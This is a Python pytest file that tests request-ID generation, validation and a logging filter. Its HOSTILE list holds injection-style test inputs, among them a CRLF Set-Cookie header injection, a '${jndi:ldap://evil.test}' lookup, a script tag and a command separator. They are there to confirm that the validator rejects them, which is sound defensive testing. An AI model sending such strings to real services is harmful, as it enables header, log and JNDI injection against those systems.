"""Ids of requests: made, judged, and written into log records."""

import asyncio
import logging
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from levante.http.requestids import (
    MAX_REQUEST_ID,
    RequestIdFilter,
    current_request_id,
    is_request_id,
    new_request_id,
)

pytestmark = [pytest.mark.hardening("S22"), pytest.mark.parity("U25")]


def test_new_ids_differ_and_have_one_form() -> None:
    ids = {new_request_id() for _ in range(1000)}
    assert len(ids) == 1000
    assert all(re.fullmatch("[0-9a-f]{32}", number) and is_request_id(number) for number in ids)


@pytest.mark.parametrize(
    "text",
    [
        "7b0c7f3e-6c55-4f6b-8b1a-0c1f0f0f0f0f",
        "4bf92f3577b34da6a3ce929d0e0e4736",
        "8f1a2b3c4d5e6f70-FRA",
        "Root=1-67891233-abcdef012345678912345678",
        "aGVsbG8+d29ybGQ/Lw==".replace("?", ""),
        "a",
        "x" * MAX_REQUEST_ID,
    ],
)
def test_ids_of_others(text: str) -> None:
    assert is_request_id(text)


HOSTILE = [
    "",
    " ",
    "a b",
    "a\r\nSet-Cookie: x=1",
    "a\n",
    "a\x00",
    "\x1b[31mred",
    "<script>",
    '"quoted"',
    "it's",
    "%0d%0a",
    "${jndi:ldap://evil.test}",
    "a;b",
    "a\\nb",
    "ñ",
    "\u0660",
    "\u2028",
    "\udcff",
    "x" * (MAX_REQUEST_ID + 1),
    "x" * 10_240,
]


@pytest.mark.parametrize("text", HOSTILE)
def test_what_is_no_id(text: str) -> None:
    assert not is_request_id(text)


@given(st.text())
def test_an_id_is_plain(text: str) -> None:
    if is_request_id(text):
        assert text.isascii()
        assert text.isprintable()
        assert not set(text) & set(" \"'<>&%$\\;,(){}[]`|^!?*#")


class Records(logging.Handler):
    """Keeps what it is given, formatted."""

    def __init__(self) -> None:
        super().__init__()
        self.lines: list[str] = []
        self.setFormatter(logging.Formatter("%(request_id)s %(message)s"))
        self.addFilter(RequestIdFilter())

    def emit(self, record: logging.LogRecord) -> None:
        self.lines.append(self.format(record))


async def test_records_carry_the_id_of_their_context() -> None:
    async def serve(number: str) -> None:
        current_request_id.set(number)
        await asyncio.sleep(0)
        logger.warning("in %s", number)

    logger, records = logging.getLogger("test.requestids"), Records()
    logger.addHandler(records)
    try:
        logger.warning("before")
        await asyncio.gather(asyncio.create_task(serve("one")), asyncio.create_task(serve("two")))
        logger.warning("said", extra={"request_id": "own"})
    finally:
        logger.removeHandler(records)
    assert records.lines == ["- before", "one in one", "two in two", "own said"]
